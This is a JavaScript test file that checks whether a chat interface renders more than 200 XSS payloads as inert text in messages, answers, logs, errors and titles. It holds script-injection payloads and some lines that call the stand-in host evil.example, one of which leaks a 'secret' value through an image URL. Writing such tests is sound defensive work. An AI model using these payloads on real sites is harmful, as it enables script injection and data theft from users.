// SPDX-License-Identifier: MIT
// Hostile text from bots and people stays text: nothing of it runs, nothing
// of it is loaded, and the browser's policy never has to step in.

import assert from 'node:assert/strict';

import { until } from './hive.mjs';
import { answered, BOT, open, shot, signIn, story, tab } from './page.mjs';

const RUN = 'window.hacked=1';
const TAGS = ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'video', 'audio',
  'body', 'details', 'marquee', 'math', 'form', 'input', 'style', 'link', 'base', 'meta',
  'template', 'a'];
const EVENTS = ['onload', 'onerror', 'ontoggle', 'onfocus', 'onstart', 'onanimationstart'];
const MORE = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</pre></div></textarea></title></style></script><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN})`,
  `![x](https://evil.example/?q=secret)`,
  `<img src=x onerror=${RUN}//`,
  `<img src="/health" onload="${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="//evil.example/">`,
  `<form action=javascript:${RUN}><button>x`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  '\u202Egnp.exe\u202C and \u2066isolated\u2069',
  '\u0001\u0007\u001b[31mred\u001b]0;title\u0007',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '<!--><img src=x onerror=window.hacked=1>-->',
  '<![CDATA[<img src=x onerror=window.hacked=1>]]>',
  '__proto__', 'constructor', '</article></main></body></html>',
];
const PAYLOADS = [
  ...TAGS.flatMap((tag) => EVENTS.map((event) =>
    `<${tag} src=x href=x ${event}="${RUN}" ${event}=${RUN} autofocus tabindex=1>`)),
  ...TAGS.map((tag) => `<${tag.toUpperCase()}\u000cONLOAD=${RUN}\n>`),
  ...TAGS.map((tag) => `<${tag}/src="javascript:${RUN}">`),
  ...MORE,
  ...MORE.slice(0, 15).map((p) => `${p.replace(/</g, '%3C')} ${p.replace(/</g, '＜')}`),
];

async function clean(page) {
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.deepEqual(await page.evaluate(() => window.reports), []);
  const strange = await page.evaluate(() => document.querySelectorAll(
    '#app :is(script, img, svg, iframe, object, embed, video, audio, style, link, base, meta)',
  ).length);
  assert.equal(strange, 0);
}

story('200 payloads as messages and answers are shown as text', async (hive, t) => {
  assert.ok(PAYLOADS.length >= 200);
  await hive.bot('BOT-001');
  const items = PAYLOADS.flatMap((content) => [
    { role: 'user', author: content.slice(0, 60), content, status: 'answered' },
    { role: 'assistant', content, status: 'answered' },
  ]);
  const page = await tab(t);
  page.on('request', (r) => assert.ok(r.url().startsWith(hive.url), r.url()));
  await signIn(hive, page);
  await hive.call('POST', '/api/v1/bots/BOT-001/chat/import', { title: PAYLOADS[0], items });
  await open(page, 'BOT-001');
  await page.selectOption('.toolbar select', { label: PAYLOADS[0] });
  await page.waitForSelector('.line-item');
  await page.locator('.transcript').hover();
  await until(async () => {
    await page.mouse.wheel(0, -5000);
    return page.isVisible('text=The beginning of the conversation');
  }, 'the beginning', 60000);
  const texts = await page.evaluate(() =>
    [...document.querySelectorAll('.line-item.assistant .text')].map((e) => e.textContent));
  assert.deepEqual(texts, PAYLOADS);
  await clean(page);
  await shot(page, 'xss');
});

story('payloads as streamed answer, status, log, error and title are text', async (hive, t) => {
  await hive.bot('actor', { adapter: 'process', argv: ['python3', BOT] });
  const page = await tab(t);
  await signIn(hive, page);
  await open(page, 'actor');
  const said = MORE.filter((p) => !/[\u0000-\u001f]/.test(p));
  for (const text of said) {
    await page.fill('.composer textarea', `say ${text}`);
    await page.keyboard.press('Enter');
    await answered(page, text);
  }
  await page.waitForFunction((text) =>
    document.querySelector('.bot-head .reason').textContent.includes(text), said.at(-1));
  for (const text of said.slice(0, 8)) {
    await page.fill('.composer textarea', `fail ${text}`);
    await page.keyboard.press('Enter');
    await page.waitForFunction((wanted) =>
      [...document.querySelectorAll('.line-item.user[data-status=failed] .why')].at(-1)
        ?.textContent.includes(wanted), text);
  }
  for (const title of MORE.slice(0, 8)) {
    await hive.call('POST', '/api/v1/bots/actor/conversations', { title });
  }
  await page.reload();
  await page.waitForFunction(() => document.querySelectorAll('.toolbar option').length === 9);
  await page.click('.tabs button:text-is("Log")');
  await page.waitForSelector('.log:has-text("window.hacked")');
  await clean(page);
});
